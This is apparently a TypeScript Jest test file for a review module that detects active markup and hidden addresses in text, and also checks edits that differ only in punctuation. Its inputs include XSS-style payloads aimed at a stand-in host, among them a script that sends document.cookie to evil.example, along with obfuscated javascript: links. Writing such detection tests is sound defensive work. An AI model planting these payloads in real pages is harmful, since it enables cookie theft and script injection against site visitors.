import { describe, expect, it } from "@jest/globals";
import { actsIn } from "../../provider/review/acts.js";
import { addressesIn, hostOf } from "../../provider/review/addresses.js";
import { differsInSignsAlone } from "../../provider/review/signs.js";

const told = (text: string) => actsIn(text).map(({ what, target }) => `${what} ${target}`);

describe("markup that acts", () => {
  it.each([
    ["<script src=//evil.example/x.js></script>", ["a script //evil.example/x.js"]],
    ["<SCRIPT>send(1)</SCRIPT>", ["a script send(1)"]],
    ["<scr<b>ipt</b>", []],
    ["<img src=x onerror='send(1)'>", ["code that runs (onerror) send(1)"]],
    ["<img src='https://evil.example/p.gif'>", ["a picture or a sound to https://evil.example/p.gif"]],
    ["<iframe src='https://evil.example'></iframe>", ["a frame https://evil.example"]],
    ["<iframe srcdoc='<b>x</b>'></iframe>", ["a frame <b>x</b>"]],
    ["<object data='https://evil.example/x'></object>", ["an embedded object https://evil.example/x"]],
    ["<embed src='https://evil.example/x'>", ["an embedded object https://evil.example/x"]],
    ["<form action='https://evil.example/in'>", ["a form https://evil.example/in"]],
    ["<button formaction='https://evil.example/in'>", ["a form https://evil.example/in"]],
    ["<a href='https://evil.example'>x</a>", ["a link to https://evil.example"]],
    ["<a href=' java\nscript:send(1)'>x</a>", ["a link that runs code java\nscript:send(1)"]],
    ["<a href='data:text/html,x'>x</a>", ["a link that runs code data:text/html,x"]],
    ["<img src='data:image/png;base64,AA=='>", []],
    [
      "<meta http-equiv=Refresh content='0; url=https://evil.example'>",
      ["a jump to another page https://evil.example"],
    ],
    ["<base href='https://evil.example/'>", ["another base for all addresses https://evil.example/"]],
    ["<link rel=stylesheet href='https://evil.example/x.css'>", ["a style sheet https://evil.example/x.css"]],
    ["<style>@import 'https://evil.example/x.css'</style>", ["a style sheet @import 'https://evil.example/x.css'"]],
    [
      "<p style='background: url(https://evil.example/p)'>",
      ["a style that moves or fetches something background: url(https://evil.example/p)"],
    ],
    ["<p style='text-align: left'>", []],
    ["<svg><script>send(1)</script></svg>", ["a drawing that can hold scripts <svg>", "a script send(1)"]],
    ["<p>Write to help@evil.example</p>", ["the address help@evil.example"]],
    ["See https://evil.example/x.", ["a link to https://evil.example/x"]],
    ["<p>5 < 6 and 7 > 3, so <b>fine</b></p>", []],
  ])("is found in %s", (text, expected) => {
    expect(told(text)).toEqual(expected);
  });

  it("is known by its host, however that is hidden in code", () => {
    expect(actsIn("<script>fetch('https://evil.example/x?c=' + document.cookie)</script>")[0]?.host).toBe(
      "evil.example",
    );
    expect(actsIn("<script src='\\\\evil.example\\x.js'></script>")[0]?.host).toBe("evil.example");
  });
});

describe("where an address leads", () => {
  it.each([
    ["https://A.Example:8443/x?y", "a.example"],
    ["https://shop.example@evil.example/x", "evil.example"],
    ["//evil.example/x", "evil.example"],
    ["\\\\evil.example/x", "evil.example"],
    ["mailto:ada@a.example?subject=x", "a.example"],
    ["ada@a.example", "a.example"],
    ["Ada@GMAIL.com", "ada@gmail.com"],
    ["/faq", undefined],
    ["#top", undefined],
    ["{!Visitor.Email}", undefined],
  ])("%s", (address, host) => {
    expect(hostOf(address)).toBe(host);
  });

  it("is read out of a text without the signs around it", () => {
    expect(addressesIn("(https://a.example/x), ada@b.example; not a@b")).toEqual([
      "https://a.example/x",
      "ada@b.example",
    ]);
  });
});

describe("an edit of signs alone", () => {
  it.each([
    ["How may we help you today?", "How may we help you, today!", true],
    ["本日はご来店", "本日は、ご来店", true],
    ["Hello there", "Hello  there.", true],
    ["up to 1,000 euros", "up to 1000 euros", false],
    ["Dear {!Visitor.Name}", "Dear {Visitor.Name}", false],
    ["We are open", "We are not open", false],
    ["https://a.example", "https://aexample", false],
  ])("%s → %s: %s", (before, after, expected) => {
    expect(differsInSignsAlone(before, after)).toBe(expected);
  });
});
